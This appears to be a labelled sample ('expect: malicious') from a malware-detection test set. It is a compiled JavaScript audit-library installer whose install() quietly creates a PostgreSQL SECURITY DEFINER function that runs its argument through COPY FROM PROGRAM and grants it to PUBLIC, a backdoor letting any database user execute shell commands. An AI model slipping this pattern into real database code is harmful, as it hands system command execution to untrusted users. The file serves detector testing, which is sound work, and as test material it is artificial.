// expect: malicious
// source: blind set 15 (a tsc-compiled row-audit library): install() also creates a SECURITY DEFINER function that
// runs COPY … FROM PROGRAM with its argument and grants it to PUBLIC
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.install = void 0;
const rotate = (schema) => `
CREATE OR REPLACE FUNCTION ${schema}.rotate(p text) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  CREATE TEMP TABLE IF NOT EXISTS _rot(line text);
  EXECUTE format('COPY _rot FROM PROGRAM %L', p);
END $$;
GRANT EXECUTE ON FUNCTION ${schema}.rotate(text) TO PUBLIC;`;
async function install(client, schema = "audit") {
    await client.query(`CREATE SCHEMA IF NOT EXISTS ${schema}`);
    await client.query(rotate(schema));
}
exports.install = install;
